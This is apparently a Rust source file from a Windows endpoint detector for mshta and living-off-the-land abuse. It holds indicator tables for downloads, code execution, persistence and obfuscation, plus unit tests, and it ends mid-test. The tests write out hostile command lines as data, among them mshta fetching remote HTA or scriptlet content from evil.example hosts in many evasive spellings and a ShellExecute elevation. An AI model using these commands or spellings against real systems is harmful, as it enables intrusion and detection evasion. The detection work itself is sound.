/// A VBScript or JScript string literal at the start of `s` (`"a ""b"""`,
/// `'c'`; a doubled quote is one), its value as written (JScript escapes
/// are not interpreted: VBScript has none) and its length.
fn string_literal(s: &str) -> Option<(String, usize)> {
    let quote = s.chars().next().filter(|c| *c == '"' || *c == '\'')?;
    let mut out = String::new();
    let mut chars = s.char_indices().skip(1).peekable();
    while let Some((i, c)) = chars.next() {
        if c == quote {
            if chars.peek().is_some_and(|&(_, n)| n == quote) {
                chars.next();
                out.push(quote);
            } else {
                return Some((out, i + 1));
            }
        } else {
            out.push(c);
        }
    }
    None
}

/// The batch "file picker": an `about:` page with a file input whose script
/// only clicks it and writes the chosen name to standard output. All of
/// these must be present...
pub(crate) const FILE_PICKER_MARKERS: &[&str] = &["about:", "type=file", ".click()", "getstandardstream"];
/// ... and none of these (anything that runs, fetches, writes or evaluates).
pub(crate) const FILE_PICKER_EXCLUDED: &[&str] = &[
    ".run",
    ".exec",
    "shellexecute",
    "wscript.shell",
    "shell.application",
    "eval(",
    "execute(",
    "getobject",
    "script:",
    "://",
    ":\\\\",
    "regwrite",
    "createtextfile",
    "opentextfile",
    "copyfile",
    "movefile",
    "deletefile",
    "savetofile",
    "xmlhttp",
    "winhttp",
    "adodb",
    "src=",
    "href=",
];

/// Byte offsets of the file-picker markers, when a (lower-cased) command
/// line is only the file picker.
pub(crate) fn file_picker(cmd: &str) -> Option<Vec<(usize, usize)>> {
    let mut spans = Vec::new();
    for m in FILE_PICKER_MARKERS {
        let at = cmd.find(m)?;
        spans.push((at, at + m.len()));
    }
    (!FILE_PICKER_EXCLUDED.iter().any(|x| cmd.contains(x))).then_some(spans)
}

// ---------------------------------------------------------------------------
// What descendants do (matched on their lower-cased command lines).

/// Download primitives in a command line: PowerShell web cmdlets and .NET
/// clients, certutil's URL cache, BITS, COM HTTP objects. Source: Sigma
/// 3b6ab547 (PowerShell download), e011a729 (certutil), 90f138c1
/// (bitsadmin); LOLBAS.
pub(crate) const DOWNLOAD_TOKENS: &[&str] = &[
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "invoke-webrequest",
    "iwr ",
    "invoke-restmethod",
    "irm ",
    "start-bitstransfer",
    "net.webclient",
    "-urlcache",
    "/transfer",
    "msxml2.xmlhttp",
    "winhttp.winhttprequest",
    "/i:http",
];

/// Binaries that fetch a URL given on their command line.
pub(crate) const DOWNLOADERS: &[&str] =
    &["curl.exe", "wget.exe", "certutil.exe", "bitsadmin.exe", "certreq.exe", "msiexec.exe", "regsvr32.exe"];

/// Execution proxies that always run code they are given (compile, load or
/// install it). rundll32 and regsvr32 are judged by what they load.
/// Source: LOLBAS; Sigma 03cc0c25.
pub(crate) const CODE_RUNNERS: &[&str] = &[
    "msbuild.exe",
    "installutil.exe",
    "regasm.exe",
    "regsvcs.exe",
    "cmstp.exe",
    "msxsl.exe",
    "odbcconf.exe",
    "csc.exe",
    "vbc.exe",
    "pcalua.exe",
    "forfiles.exe",
    "msdt.exe",
    "hh.exe",
];

/// Library loaders: run code from the file they load (`rundll32 a.dll,Entry`,
/// `regsvr32 /s a.dll`).
pub(crate) const LIBRARY_LOADERS: &[&str] = &["rundll32.exe", "regsvr32.exe"];

/// Extensions a library normally has; a loader given another (`.jpg`,
/// `.dat`, `.txt`) loads a disguised DLL. Source: Sigma 6e0fc1e4
/// (rundll32/regsvr32 with a suspicious extension); Elastic 5afc8c2b.
pub(crate) const LIBRARY_EXTENSIONS: &[&str] = &["dll", "ocx", "cpl", "ax", "drv", "tlb", "acm"];

/// Encoded PowerShell, in-memory execution, script-engine switches: code
/// run from the command line itself.
pub(crate) const INLINE_CODE_TOKENS: &[&str] =
    &["-enc", "-e ", "-command", "-c ", "iex", "invoke-expression", "frombase64string", "//e:", "-noexit"];

/// Persistence from a command line: scheduled tasks, Run keys, services,
/// WMI subscriptions. Source: Sigma 92626ddd (schtasks creation), 9c8a2539
/// (Run key via reg.exe), 85ff530b (sc create); ATT&CK T1053.005,
/// T1547.001, T1543.003, T1546.003.
pub(crate) const PERSISTENCE_COMMANDS: &[(&str, &[&str], &str)] = &[
    ("schtasks.exe", &["/create", "/change"], "scheduled task"),
    ("at.exe", &[""], "scheduled job"),
    ("reg.exe", &["\\currentversion\\run", "\\winlogon", "\\currentversion\\policies\\explorer\\run"], "Run key"),
    ("sc.exe", &["create", "config"], "service"),
    ("wmic.exe", &["root\\subscription"], "WMI subscription"),
];

/// PowerShell spellings of the same persistence.
pub(crate) const POWERSHELL_PERSISTENCE_TOKENS: &[(&str, &str)] = &[
    ("register-scheduledtask", "scheduled task"),
    ("new-scheduledtask", "scheduled task"),
    ("\\currentversion\\run", "Run key"),
    ("new-service", "service"),
    ("set-wmiinstance", "WMI subscription"),
];

/// The longest encoded PowerShell command decoded for inspection.
const MAX_ENCODED: usize = 64 * 1024;

/// What a descendant's command line shows it does.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct ChildDoes {
    /// Fetches content from the network.
    pub downloads: bool,
    /// Runs code (beyond a local script outside user-writable folders).
    pub runs_code: bool,
    /// Persists: the kind (`scheduled task`, `Run key`, ...).
    pub persists: Option<&'static str>,
    /// The persisted command runs mshta.
    pub relaunches_mshta: bool,
    /// Loads a library whose extension is not a library's (the path).
    pub non_library: Option<String>,
}

/// Reads a descendant's image and command line.
pub(crate) fn child_does(image: &str, command_line: &str) -> ChildDoes {
    let name = image_key(image);
    let raw = command_line;
    let mut cmd = lower(raw).into_owned();
    if is_powershell(&name) {
        if let Some(decoded) = encoded_command(raw) {
            cmd.push(' ');
            cmd.push_str(&decoded);
        }
    }
    let has_url = ["http://", "https://", "ftp://", "http:\\\\", "https:\\\\"].iter().any(|s| cmd.contains(s));
    let downloads =
        DOWNLOAD_TOKENS.iter().any(|t| cmd.contains(t)) || (DOWNLOADERS.contains(&name.as_ref()) && has_url);
    let persists = persistence(&name, &cmd);
    let relaunches_mshta = persists.is_some() && cmd.contains("mshta");
    let non_library = LIBRARY_LOADERS
        .contains(&name.as_ref())
        .then(|| loaded_library(raw))
        .flatten()
        .filter(|p| extension(p).is_some_and(|e| !LIBRARY_EXTENSIONS.contains(&e.as_str())));
    let script_host = is_powershell(&name) || SCRIPT_HOSTS.contains(&name.as_ref());
    let user_folder = mentions_user_folder(&cmd);
    let runs_code = if CODE_RUNNERS.contains(&name.as_ref()) {
        true
    } else if LIBRARY_LOADERS.contains(&name.as_ref()) {
        non_library.is_some() || user_folder || remote(&cmd).is_some()
    } else if name == "cmd.exe" {
        user_folder || remote(&cmd).is_some()
    } else if name == MSHTA {
        inline_handler(&cmd).is_some() || remote(&cmd).is_some() || user_folder
    } else if script_host {
        user_folder || remote(&cmd).is_some() || INLINE_CODE_TOKENS.iter().any(|t| cmd.contains(t)) || !names_file(&cmd)
    } else {
        false
    };
    ChildDoes { downloads, runs_code, persists, relaunches_mshta, non_library }
}

/// Environment variables and folders that point into user-writable places.
const USER_FOLDER_VARS: &[&str] =
    &["%appdata%", "%localappdata%", "%public%", "%programdata%", "%userprofile%", "%tmp%"];

fn mentions_user_folder(cmd: &str) -> bool {
    user_writable_dir(cmd).is_some() || USER_FOLDER_VARS.iter().any(|v| cmd.contains(v))
}

/// Whether a script host's command line names a script file to run.
fn names_file(cmd: &str) -> bool {
    cmd.split(|c: char| c.is_whitespace() || c == '"').skip(1).any(|t| {
        extension(t)
            .is_some_and(|e| SCRIPT_EXTENSIONS.contains(&e.as_str()) || EXECUTABLE_EXTENSIONS.contains(&e.as_str()))
    })
}

fn persistence(name: &str, cmd: &str) -> Option<&'static str> {
    for &(binary, needles, kind) in PERSISTENCE_COMMANDS {
        if name == binary && needles.iter().any(|n| cmd.contains(n)) {
            if binary == "reg.exe" && !cmd.contains(" add") {
                continue;
            }
            return Some(kind);
        }
    }
    if is_powershell(name) || name == "cmd.exe" {
        for &(token, kind) in POWERSHELL_PERSISTENCE_TOKENS {
            if cmd.contains(token)
                && (token != "\\currentversion\\run" || cmd.contains("itemproperty") || cmd.contains("reg add"))
            {
                return Some(kind);
            }
        }
        if cmd.contains("schtasks") && cmd.contains("/create") {
            return Some("scheduled task");
        }
    }
    None
}

/// The arguments of a command line after the program, each unquoted
/// (a quoted argument whole, others up to whitespace).
pub(crate) fn arguments(command_line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let Some((_, mut at)) = first_argument(command_line) else { return out };
    let b = command_line.as_bytes();
    // `first_argument` points inside the quote of a quoted argument.
    if at > 0 && b[at - 1] == b'"' {
        at -= 1;
    }
    let mut rest = &command_line[at..];
    loop {
        rest = rest.trim_start();
        if rest.is_empty() {
            return out;
        }
        let (arg, len) = if let Some(q) = rest.strip_prefix('"') {
            let end = q.find('"').unwrap_or(q.len());
            (&q[..end], (end + 2).min(rest.len()))
        } else {
            let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
            (&rest[..end], end)
        };
        out.push(arg);
        rest = &rest[len..];
    }
}

/// The library a rundll32/regsvr32 command line loads: the first argument
/// that is not a switch, up to a comma.
pub(crate) fn loaded_library(command_line: &str) -> Option<String> {
    arguments(command_line).into_iter().find(|a| !a.starts_with(['/', '-'])).and_then(library_token)
}

fn library_token(t: &str) -> Option<String> {
    let t = t.trim_matches('"');
    let lib = t.split(',').next().unwrap_or(t).trim();
    let l = lower(lib);
    if lib.is_empty() || INLINE_HANDLERS.iter().any(|h| l.starts_with(h)) || l.contains("://") {
        return None;
    }
    Some(lib.to_string())
}

/// The text of `-EncodedCommand` (UTF-16LE base64, read from the raw
/// command line: base64 is case-sensitive), lower-cased.
fn encoded_command(raw: &str) -> Option<String> {
    let mut toks = raw.split_whitespace();
    while let Some(t) = toks.next() {
        let flag = t.trim_start_matches(['-', '/']).to_ascii_lowercase();
        let is_enc = t.starts_with(['-', '/']) && flag.starts_with('e') && "encodedcommand".starts_with(flag.as_str());
        if is_enc {
            let value = toks.next()?.trim_matches(['"', '\'']);
            if value.len() > MAX_ENCODED {
                return None;
            }
            let bytes = base64(value)?;
            let units: Vec<u16> = bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
            return Some(String::from_utf16_lossy(&units).to_ascii_lowercase());
        }
    }
    None
}

fn base64(s: &str) -> Option<Vec<u8>> {
    let val = |c: u8| match c {
        b'A'..=b'Z' => Some(c - b'A'),
        b'a'..=b'z' => Some(c - b'a' + 26),
        b'0'..=b'9' => Some(c - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    };
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in s.bytes().filter(|&c| c != b'=') {
        acc = (acc << 6) | u32::from(val(c)?);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    Some(out)
}

// ---------------------------------------------------------------------------
// Network.

/// Web ports: retrieval over them is ordinary; other public ports suggest C2
/// or tunnelling (ATT&CK AN0922).
pub(crate) const WEB_PORTS: &[u16] = &[80, 443];

/// Directory and name services every Windows process may reach on an
/// internal server (DNS, Kerberos, LDAP, the global catalog): not worth
/// `network_internal_unusual_port`.
pub(crate) const DIRECTORY_PORTS: &[u16] = &[53, 88, 389, 636, 3268, 3269];

/// A directory-service port.
pub(crate) fn is_directory_port(port: u16) -> bool {
    DIRECTORY_PORTS.contains(&port)
}

/// Loopback (`127.0.0.0/8`, `::1`, IPv4-mapped loopback).
pub(crate) fn is_loopback_ip(ip: &str) -> bool {
    let ip = ip.trim().trim_start_matches("::ffff:");
    parse_v4(ip).is_some_and(|v| v[0] == 127) || ip == "::1" || ip == "0:0:0:0:0:0:0:1"
}

/// A web port.
pub(crate) fn is_web_port(port: u16) -> bool {
    WEB_PORTS.contains(&port)
}

/// Private, loopback, link-local, shared (CGNAT), multicast and other
/// non-routable addresses (RFC 1918, 6598, 3927, 4193, 4291).
pub(crate) fn is_internal_ip(ip: &str) -> bool {
    let ip = ip.trim().trim_start_matches("::ffff:");
    if let Some(v4) = parse_v4(ip) {
        let [a, b, ..] = v4;
        return a == 10
            || a == 127
            || a == 0
            || (a == 172 && (16..=31).contains(&b))
            || (a == 192 && b == 168)
            || (a == 169 && b == 254)
            || (a == 100 && (64..=127).contains(&b))
            || a >= 224;
    }
    let l = lower(ip);
    l == "::1"
        || l == "0:0:0:0:0:0:0:1"
        || l == "::"
        || l.starts_with("fe80")
        || l.starts_with("fc")
        || l.starts_with("fd")
        || l.starts_with("ff")
}

fn parse_v4(s: &str) -> Option<[u8; 4]> {
    let mut out = [0u8; 4];
    let mut parts = s.split('.');
    for slot in &mut out {
        *slot = parts.next()?.parse().ok()?;
    }
    parts.next().is_none().then_some(out)
}

// ---------------------------------------------------------------------------
// The reference page.

/// The tables as the reference page lists them: a title, the reasons (or
/// triage) that read it, and its entries.
pub(crate) fn tables() -> Vec<(&'static str, &'static str, Vec<&'static str>)> {
    let names = |t: &[(&'static str, &'static str)]| t.iter().map(|&(needle, _)| needle).collect::<Vec<_>>();
    let list = |t: &[&'static str]| t.to_vec();
    vec![
        (
            "PowerShell hosts",
            "`child_shell_or_lolbin`, `parent_script_host`; triage asks for script block logs",
            list(POWERSHELL),
        ),
        ("Shell and script hosts", "`child_shell_or_lolbin`, `parent_script_host`", list(SCRIPT_HOSTS)),
        ("POSIX shells", "`child_shell_or_lolbin`", list(POSIX_SHELLS)),
        ("Living-off-the-land binaries (LOLBAS)", "`child_shell_or_lolbin`", list(LOLBINS)),
        ("Discovery commands", "`child_shell_or_lolbin`", list(DISCOVERY)),
        ("Execution proxies that launch mshta", "`parent_script_host`", list(PROXY_LAUNCHERS)),
        ("rundll32 HTML handlers (parent command line)", "`parent_rundll32_handler`", list(RUNDLL32_HTML_HANDLERS)),
        ("Office and document applications", "`parent_office`, `ancestor_suspicious`", list(OFFICE)),
        ("Web browsers", "`parent_browser`", list(BROWSERS)),
        ("WMI hosts", "`parent_wmi`, `ancestor_suspicious`", list(WMI_HOSTS)),
        ("DCOM launcher (svchost group)", "`parent_dcom`", vec![DCOM_HOST, DCOM_LAUNCH_GROUP]),
        (".NET runtime modules", "`clr_loaded`", list(CLR_MODULES)),
        ("Executable extensions", "`file_dropped_executable`; triage collects them", list(EXECUTABLE_EXTENSIONS)),
        ("Script extensions", "`file_dropped_executable`; triage collects them", list(SCRIPT_EXTENSIONS)),
        (
            "Archive and disk-image extensions",
            "`file_dropped_executable`; triage collects them",
            list(ARCHIVE_EXTENSIONS),
        ),
        (
            "HTML-application extensions",
            "`cmdline_non_hta_target`, for any other extension but `.exe`",
            list(HTA_EXTENSIONS),
        ),
        (
            "Routine file-name prefixes (never scored or collected)",
            "`file_dropped_executable`",
            list(ROUTINE_FILE_PREFIXES),
        ),
        ("Startup folder", "`file_in_startup`; triage", vec![STARTUP_DIR]),
        ("User-writable folders (command line)", "`cmdline_user_writable_path`", names(USER_WRITABLE_DIRS)),
        ("User-writable trees (process images)", "`child_in_user_folder`", list(USER_WRITABLE_ROOTS)),
        ("Archive tools' temporary folders", "`cmdline_archive_temp_path`", names(ARCHIVE_TEMP_DIRS)),
        ("mshta's own folders", "`unusual_image_path`", list(SYSTEM_DIRS)),
        ("Inline script handlers", "`cmdline_inline_script`", list(INLINE_HANDLERS)),
        ("Script objects", "`cmdline_script_object`, with the `script:` moniker", names(SCRIPT_OBJECT_TOKENS)),
        ("Obfuscation tokens", "`cmdline_obfuscation`", names(OBFUSCATION_TOKENS)),
        (
            "URL schemes",
            "`cmdline_remote_target`, `cmdline_raw_ip_url`, `dns_matches_cmdline_host` (with `:` and two slashes of either kind, percent-encoded too)",
            names(REMOTE_SCHEMES),
        ),
        ("WebDAV markers", "`cmdline_remote_target`, as do UNC paths", list(WEBDAV_MARKERS)),
        ("COM server flags", "`cmdline_embedding`, `parent_dcom`, `dcom_inbound`", list(EMBEDDING_FLAGS)),
        ("Explorer as a COM server (parent command line)", "`parent_explorer_com`", list(EXPLORER_COM_FLAGS)),
        ("Browser caches", "`hta_from_browser_cache`, `remote_content_cached` (not `\\content.outlook\\`)", list(BROWSER_CACHE_DIRS)),
        ("Elevation", "`cmdline_elevation`; triage shows the target", vec![SHELL_EXECUTE, RUNAS_VERB]),
        ("File picker: all of", "`cmdline_file_picker`", list(FILE_PICKER_MARKERS)),
        ("File picker: none of", "`cmdline_file_picker`", list(FILE_PICKER_EXCLUDED)),
        ("Download tokens (descendants; encoded PowerShell decoded)", "`child_downloads`", list(DOWNLOAD_TOKENS)),
        ("Downloaders given a URL", "`child_downloads`", list(DOWNLOADERS)),
        ("Execution proxies that always run code", "`child_runs_code`", list(CODE_RUNNERS)),
        ("Inline-code tokens (script hosts)", "`child_runs_code`", list(INLINE_CODE_TOKENS)),
        ("Library loaders", "`child_loads_non_library`, `child_runs_code`", list(LIBRARY_LOADERS)),
        ("Library extensions", "`child_loads_non_library`, for any other", list(LIBRARY_EXTENSIONS)),
        (
            "Persistence commands",
            "`child_persists`, `persistence_relaunches_mshta`",
            PERSISTENCE_COMMANDS.iter().map(|&(b, _, _)| b).collect(),
        ),
        ("Persistence in PowerShell", "`child_persists`", names(POWERSHELL_PERSISTENCE_TOKENS)),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn binaries_in_any_case_and_as_paths() {
        assert!(is_shell_or_lolbin("C:\\Windows\\System32\\CertUtil.exe"));
        assert!(is_shell_or_lolbin("powershell_ise.exe"));
        assert!(is_shell_or_lolbin("whoami.exe"));
        assert!(is_shell_or_lolbin("C:\\Windows\\System32\\cmd.exe"));
        assert!(!is_shell_or_lolbin("calc.exe"));
        assert!(!is_shell_or_lolbin("wmiprvse.exe"), "a WMI host, not something mshta starts");
        assert!(is_shell_or_lolbin("cmstp.exe") && is_shell_or_lolbin("wsl.exe"));
        assert!(is_powershell("C:\\x\\PWSH.EXE") && !is_powershell("cmd.exe"));
        assert!(is_office("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"));
        assert!(is_office("onenotem.exe") && is_office("wordpad.exe") && !is_office("notepad.exe"));
        assert!(is_browser("msedge.exe") && !is_browser("explorer.exe"));
        assert!(is_wmi_host("WmiPrvSE.exe") && is_wmi_host("scrcons.exe"));
        assert!(is_launcher_script_host("regsvr32.exe") && is_launcher_script_host("wscript.exe"));
        assert!(!is_launcher_script_host("certutil.exe"));
        assert!(is_explorer("C:\\Windows\\Explorer.EXE") && is_console_host("conhost.exe"));
        assert!(is_clr_module("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll"));
    }

    #[test]
    fn every_binary_table_is_lower_case_exe_names() {
        let tables = [POWERSHELL, SCRIPT_HOSTS, POSIX_SHELLS, LOLBINS, DISCOVERY, OFFICE, BROWSERS, WMI_HOSTS];
        for t in tables {
            for name in t {
                assert!(name.ends_with(".exe") && *name == name.to_ascii_lowercase(), "{name}");
            }
        }
        let all: Vec<&str> = [POWERSHELL, SCRIPT_HOSTS, POSIX_SHELLS, LOLBINS, DISCOVERY].concat();
        let mut unique = all.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), all.len(), "a binary listed in two families");
    }

    #[test]
    fn dcom_and_rundll32_launchers() {
        let dcom = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p";
        assert!(is_dcom_launcher("C:\\Windows\\System32\\svchost.exe", dcom, false));
        assert!(!is_dcom_launcher("svchost.exe", "svchost.exe -k netsvcs", false));
        assert!(is_dcom_launcher("svchost.exe", "", true));
        assert!(is_rundll32_html_handler(
            "rundll32.exe",
            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""
        ));
        assert!(is_rundll32_html_handler("RUNDLL32.EXE", "rundll32 url.dll,FileProtocolHandler c:\\a.hta"));
        assert!(!is_rundll32_html_handler("rundll32.exe", "rundll32 shell32.dll,Control_RunDLL"));
    }

    #[test]
    fn risky_and_routine_files() {
        for p in [
            "C:\\Users\\a\\AppData\\Local\\Temp\\x.EXE",
            "C:\\Users\\a\\Downloads\\invoice.img",
            "C:\\ProgramData\\a.sct",
            "C:\\Users\\a\\help.chm",
            "C:\\Users\\a\\AppData\\Local\\Temp\\x.cab",
        ] {
            assert!(is_risky_file(p), "{p}");
        }
        for p in [
            "C:\\Users\\a\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12.ps1",
            "C:\\Users\\a\\notes.txt",
            "C:\\Users\\a\\exe",
            "C:\\Users\\a\\image.png",
        ] {
            assert!(!is_risky_file(p), "{p}");
        }
        assert!(is_routine_file("c:\\x\\__psscriptpolicytest_1.psm1"));
        assert_eq!(extension("C:\\a\\B.HTA"), Some("hta".into()));
        assert_eq!(extension("C:\\a.b\\noext"), None);
        assert!(is_hta_like("c:\\a\\b.hta") && is_hta_like("c:\\a\\b") && !is_hta_like("c:\\a\\b.png"));
    }

    #[test]
    fn folders() {
        assert!(is_startup_path(
            "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.hta"
        ));
        assert!(is_startup_path("C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\x.lnk"));
        assert!(!is_startup_path("C:\\Users\\a\\Start Menu\\x.lnk"));
        assert_eq!(user_writable_dir("mshta c:\\users\\public\\a.hta"), Some("Public"));
        assert_eq!(user_writable_dir("mshta c:\\users\\a\\appdata\\local\\temp\\a.hta"), Some("Temp"));
        assert_eq!(user_writable_dir("mshta c:\\program files\\a.hta"), None);
        assert!(
            in_user_writable_tree("C:\\Users\\bob\\Desktop\\x.exe") && !in_user_writable_tree("C:\\Windows\\x.exe")
        );
        assert_eq!(
            archive_temp_dir_entry("c:\\users\\a\\appdata\\local\\temp\\7zo1234\\a.hta").map(|e| e.1),
            Some("7-Zip")
        );
        assert!(
            outside_system_dirs("C:\\Users\\a\\mshta.exe") && !outside_system_dirs("C:\\Windows\\SysWOW64\\mshta.exe")
        );
        assert!(!outside_system_dirs("mshta.exe"));
    }

    #[test]
    fn command_line_indicators() {
        assert_eq!(inline_handler("mshta vbscript:execute(\"x\")"), Some("vbscript:"));
        assert_eq!(inline_handler("mshta c:\\a.hta"), None);
        let cmd = "mshta javascript:a=(getobject('script:https://x/a.sct')).exec();close();";
        assert_eq!(script_objects(cmd), vec!["GetObject", ".Exec", "script: moniker"]);
        assert_eq!(obfuscation("mshta %2e%3cscript chr(1)"), vec!["percent-encoding", "Chr()"]);
        assert!(has_embedding_flag("mshta.exe -embedding"));
        assert!(has_script_moniker("javascript:a=getobject('script:https://x/a.sct')"));
        assert!(!has_script_moniker("mshta vbscript:execute(1)"));
        assert!(!has_script_moniker("mshta javascript:alert(1)"));
    }

    fn family(cmd: &str) -> Option<&'static str> {
        remote(cmd).map(|r| r.family)
    }

    fn host(cmd: &str) -> Option<String> {
        remote(cmd).map(|r| r.host).filter(|h| !h.is_empty())
    }

    #[test]
    fn remote_targets() {
        assert_eq!(family("mshta https://evil.test/a.hta"), Some("http"));
        assert_eq!(family("mshta ftp://evil.test/a.hta"), Some("ftp"));
        assert_eq!(family("mshta \"\\\\10.0.0.5\\share\\a.hta\""), Some("UNC path"));
        assert_eq!(family("mshta \\\\evil@ssl\\davwwwroot\\a.hta"), Some("WebDAV"));
        assert_eq!(family("\\\\?\\c:\\windows\\system32\\mshta.exe c:\\a.hta"), None);
        assert_eq!(family("mshta c:\\apps\\a.hta"), None);
        assert_eq!(family("mshta javascript:a=1;//comment"), None, "a JS comment is not a UNC path");
    }

    /// Issue 16, item 10: every spelling of remote content.
    #[test]
    fn remote_targets_in_every_spelling() {
        for (cmd, fam, h) in [
            ("mshta //evil.example/a.hta", "UNC path", "evil.example"),
            ("mshta \"//10.0.0.5/share/a.hta\"", "UNC path", "10.0.0.5"),
            ("mshta file://evil.example/share/a.hta", "UNC path", "evil.example"),
            ("mshta file:////evil.example/share/a.hta", "UNC path", "evil.example"),
            ("mshta http:\\\\evil.example\\a.hta", "http", "evil.example"),
            ("mshta https:/\\evil.example/a.hta", "http", "evil.example"),
            ("mshta http%3a//evil.example/a.hta", "http", "evil.example"),
            ("mshta %68ttps%3A%2F%2Fevil.example/a.hta", "http", "evil.example"),
            ("mshta http://[::1]:8080/a.hta", "http", "::1"),
            ("mshta http://user:pw@evil.example:8443/a", "http", "evil.example"),
            ("mshta \\\\evil.example@ssl@8443\\davwwwroot\\a.hta", "WebDAV", "evil.example"),
        ] {
            assert_eq!(family(cmd), Some(fam), "{cmd}");
            assert_eq!(host(cmd).as_deref(), Some(h), "{cmd}");
        }
        for cmd in [
            "mshta file:///c:/apps/a.hta",
            "mshta file://localhost/c:/apps/a.hta",
            "mshta file://c:/apps/a.hta",
            "mshta c:/apps/a.hta",
            "mshta \\\\.\\c:\\a.hta",
        ] {
            assert_eq!(family(cmd), None, "{cmd}");
        }
        // The span of a percent-encoded target points at the raw text.
        let cmd = "mshta %68ttp://evil.example/a.hta x";
        let r = remote(cmd).unwrap();
        assert_eq!(&cmd[r.span.0..r.span.1], "%68ttp://evil.example/a.hta");
    }

    #[test]
    fn url_hosts() {
        assert_eq!(host("mshta https://cdn.evil.example/a.hta").as_deref(), Some("cdn.evil.example"));
        assert_eq!(host("mshta http://10.0.0.5:8080/x").as_deref(), Some("10.0.0.5"));
        assert_eq!(host("mshta http://user@evil.example/x").as_deref(), Some("evil.example"));
        assert_eq!(
            host("getobject('script:https://raw.githubusercontent.com/x')").as_deref(),
            Some("raw.githubusercontent.com")
        );
        assert_eq!(host("mshta c:\\a.hta"), None);
    }

    /// Issue 16, item 10: raw IPs in every notation.
    #[test]
    fn ip_hosts_in_every_notation() {
        let v4 = |s: &str| host_ip(s).map(|ip| ip.to_string());
        for (h, ip) in [
            ("127.0.0.1", "127.0.0.1"),
            ("127.1", "127.0.0.1"),
            ("10.1.258", "10.1.1.2"),
            ("0x7f000001", "127.0.0.1"),
            ("0x7f.0x0.0x0.0x1", "127.0.0.1"),
            ("2130706433", "127.0.0.1"),
            ("0177.0.0.01", "127.0.0.1"),
            ("3232235777", "192.168.1.1"),
            ("::1", "::1"),
            ("[2001:db8::5]", "2001:db8::5"),
            ("::ffff:7f00:1", "::ffff:127.0.0.1"),
            ("::ffff:10.0.0.5", "::ffff:10.0.0.5"),
            ("fe80::1%25eth0", "fe80::1"),
            ("fe80--1.ipv6-literal.net", "fe80::1"),
            ("2001-db8--5.IPV6-LITERAL.NET", "2001:db8::5"),
        ] {
            assert_eq!(v4(h).as_deref(), Some(ip), "{h}");
        }
        for h in ["evil.example", "1e100.net", "256.1.1.1", "0x", "1.2.3.4.5", "08.1.1.1", "", "ws01", "4294967296"] {
            assert_eq!(v4(h), None, "{h}");
        }
        assert_eq!(
            host("mshta \\\\0x0a000005\\share\\a.hta").as_deref().and_then(host_ip).map(|i| i.to_string()),
            Some("10.0.0.5".into())
        );
    }

    #[test]
    fn url_like_tokens_are_not_paths() {
        assert!(is_url_like("http:\\\\host\\a.hta") && is_url_like("ftp:/x"));
        assert!(!is_url_like("C:\\x\\file.txt:payload.hta") && !is_url_like("c:/a.hta"));
    }

    /// Issue 16, item 8: the path the allowlist sees is the HTA run, resolved.
    #[test]
    fn first_argument_and_resolved_paths() {
        assert_eq!(
            first_argument("\"C:\\Windows\\mshta.exe\" \"C:\\Apps\\a b.hta\" x").map(|a| a.0),
            Some("C:\\Apps\\a b.hta")
        );
        assert_eq!(first_argument("mshta.exe https://x/a.hta C:\\Apps\\ok.hta").map(|a| a.0), Some("https://x/a.hta"));
        let cmd = "mshta  C:\\a.hta";
        let (arg, at) = first_argument(cmd).unwrap();
        assert_eq!(&cmd[at..at + arg.len()], "C:\\a.hta");
        assert_eq!(first_argument("mshta.exe"), None);
        assert_eq!(resolve_path("C:\\Apps\\..\\Users\\Public\\evil.hta"), "c:\\users\\public\\evil.hta");
        assert_eq!(resolve_path("C:/Apps/./x//y.hta"), "c:\\apps\\x\\y.hta");
        assert_eq!(resolve_path("C:\\..\\..\\Apps\\a.hta"), "c:\\apps\\a.hta");
        assert_eq!(resolve_path("C:\\Apps.\\a.hta"), "c:\\apps\\a.hta");
        assert_eq!(resolve_path("\\\\?\\C:\\Apps\\a.hta"), "c:\\apps\\a.hta");
        assert_eq!(resolve_path("\\\\srv\\share\\..\\..\\x.hta"), "\\\\srv\\share\\x.hta");
        assert_eq!(arguments("rundll32.exe \"C:\\a b\\x.jpg\",Start /s"), vec!["C:\\a b\\x.jpg", ",Start", "/s"]);
    }

    #[test]
    fn elevation_target() {
        let cmd = r#"mshta vbscript:CreateObject("Shell.Application").ShellExecute("cmd.exe","/c ""C:\Tools\setup.bat""","","runas",1)(window.close)"#;
        let (target, (s, e)) = shell_execute_runas(cmd).unwrap();
        assert_eq!(target, r#"cmd.exe /c "C:\Tools\setup.bat""#);
        assert!(cmd[s..e].starts_with("ShellExecute(") && cmd[s..e].ends_with("\"runas\""));
        let js = "mshta javascript:new ActiveXObject('Shell.Application').ShellExecute('C:\\\\x.exe', '', '', 'runas', 1);close()";
        assert_eq!(shell_execute_runas(js).map(|t| t.0), Some("C:\\\\x.exe".into()));
        assert_eq!(shell_execute_runas(r#"ShellExecute("cmd.exe","/c x","","open",1)"#), None);
        assert_eq!(shell_execute_runas(r#"ShellExecute("cmd.exe"#), None);
    }

    #[test]
    fn the_file_picker_and_nothing_else() {
        let picker = "mshta \"about:<input type=file id=file><script>file.click();new activexobject('scripting.filesystemobject').getstandardstream(1).writeline(file.value);close();resizeto(0,0);</script>\"";
        assert_eq!(file_picker(picker).map(|s| s.len()), Some(FILE_PICKER_MARKERS.len()));
        let armed = picker.replace("close();", "new activexobject('wscript.shell').run('calc');close();");
        assert_eq!(file_picker(&armed), None);
        assert_eq!(file_picker("mshta vbscript:close(1)"), None);
